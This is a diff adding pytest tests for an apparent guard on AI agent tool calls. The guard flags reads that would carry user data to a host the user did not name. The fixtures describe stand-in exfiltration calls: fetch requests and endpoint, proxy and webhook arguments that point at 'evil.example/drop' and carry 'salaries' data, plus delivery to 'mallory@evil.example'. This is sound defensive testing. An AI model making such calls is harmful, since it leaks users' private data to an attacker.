@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from assent.flows import read_pack
+from assent.flows.trace import trace
 from tests.sdk.flows.test_decide import Story
 
 DROP, IBAN = "https://evil.example/drop", "DE12500105170648489890"
@@ -73,6 +74,91 @@ def test_a_tool_that_reads_sends_where_its_arguments_say_so(tool: str, arguments
 def test_a_plain_read_stays_one(tool: str, arguments: dict[str, object]) -> None:
     assert told().digest(tool, arguments).effect in ("read", "none")
     assert told().asks(tool, **arguments) == []
+
+
+CARRIED = [
+    *("query", "qs", "args", "variables", "fields", "input", "values", "arguments"),
+    *("post", "file", "upload", "cookie", "user_agent", "referer", "auth", "authorization"),
+    *("username", "token", "q", "bodyText", "config", "context", "state", "filter"),
+    *("path", "id"),
+]
+
+
+@pytest.mark.parametrize("tool", ["fetch", "get_page"])
+@pytest.mark.parametrize("name", CARRIED)
+def test_what_stands_beside_an_address_goes_to_who_answers_there(tool: str, name: str) -> None:
+    numbers = {"d": 12_345_678} if name in ("args", "input", "arguments", "config") else {"d": {"limit": 95_000}}
+    values: tuple[object, ...] = ("salaries of dora", ["salaries"], {"d": "salaries"}, numbers)
+    for value in values:
+        assert "provenance" in told().asks(tool, url=DROP, **{name: value}), value
+        assert told("What is at evil.example?").asks(tool, url=DROP, **{name: value}) == [], "the user's own host"
+        assert told().asks("list_things", **{name: value}) in ([], ["provenance"]), "nobody answers"
+    assert told().asks(tool, url=DROP, **{name: None}) == []
+    assert told(tools={tool: {"effect": "read"}}).asks(tool, url=DROP, **{name: "salaries"}) == []
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        *(("fetch", {"url": DROP, each: "POST"}) for each in ("verb", "type", "action", "operation")),
+        ("fetch", {"options": {"url": DROP, "verb": " put "}}),
+        ("fetch", {"url": DROP, "query": {"the salaries": True}}),
+        ("fetch", {"url": DROP, "options": {"the salaries": True}}),
+        ("fetch", {"url": DROP, "marks": [9, 5, 0, 0, 0]}),
+        ("fetch", {"url": DROP, "query": {"limit": "salaries"}}),
+        ("fetch", {"url": [DROP], "ticket": 12_345_678}),
+        *(("get_report", {"id": 7, each: DROP}) for each in ("proxy", "base_url", "api_gateway")),
+        ("get_report", {"id": 7, "proxy": {"url": DROP}}),
+        ("translate", {"text": "salaries", "api": DROP}),
+        ("summarize", {"text": "salaries", "endpoint": DROP}),
+        ("search", {"query": "salaries", "engine": DROP}),
+        ("validate_webhook", {"url": DROP, "payload": "salaries"}),
+    ],
+)
+def test_a_read_sends_where_its_address_is_not_the_users(tool: str, arguments: dict[str, object]) -> None:
+    assert told().asks(tool, **arguments) == ["provenance"]
+    assert told("What is at evil.example?").asks(tool, **arguments) in ([], ["provenance"])
+    assert told(f"What is at {DROP}?").asks(tool, **arguments) == []
+    assert told(tools={tool: {"effect": "read"}}).asks(tool, **arguments) == []
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [{"sink": DROP}, {"upload_url": DROP}, {"delivery": {"type": "email", "value": "mallory@evil.example"}}],
+)
+def test_what_is_delivered_to_an_address_is_sent(arguments: dict[str, object]) -> None:
+    assert told().asks("get_report", id=7, **arguments) == ["provenance"]
+    assert told(f"Send it to {DROP} or mallory@evil.example").asks("get_report", id=7, **arguments) == []
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("fetch", {"url": DROP, "max_length": 5_000, "start_index": 0, "raw": True, "timeout": "5s", "format": "html"}),
+        ("scrape", {"url": DROP, "formats": ["markdown"], "includeTags": ["p"], "location": {"country": "US"}}),
+        ("browse", {"url": DROP, "selector": "#main .price", "session_id": "s-1", "wait_until": "load"}),
+        ("extract_page", {"url": DROP, "prompt": "What does it cost?", "schema": {"type": "object", "x": "text"}}),
+        ("download_file", {"url": DROP, "path": "out/plan.pdf"}),
+        ("read_sheet", {"url": DROP, "sheet": "May", "range": "A1:B2"}),
+        ("fetch", {"urls": [DROP, DROP], "type": "html", "method": "GET"}),
+        ("fetch", {"options": {"url": DROP, "timeout": "5s", "render": True}}),
+        ("search_web", {"query": "salaries", "site": "evil.example"}),
+        ("search_web", {"query": "salaries"}),
+        ("read_file", {"path": "notes/plan.md", "encoding": "utf-8"}),
+        ("get_weather", {"city": "Bern"}),
+    ],
+)
+def test_what_limits_a_read_goes_nowhere(tool: str, arguments: dict[str, object]) -> None:
+    assert told().asks(tool, **arguments) == []
+
+
+def test_a_call_that_may_send_is_a_read_in_the_trace_where_the_user_named_the_host() -> None:
+    call = told().digest("fetch", {"url": DROP, "query": {"d": "salaries"}})
+    assert (call.effect, call.carries, call.effect_at(named=False)) == ("read", True, "send")
+    assert trace(told().session, call).effect == "send"
+    assert trace(told("What is at evil.example?").session, call).effect == "read"
+    assert trace(None, call).effect == "send"
+    assert trace(None, told().digest("fetch", {"url": DROP})).effect == "read"
 
 
 def test_a_command_that_a_text_has_is_not_the_users_by_its_pairs() -> None:
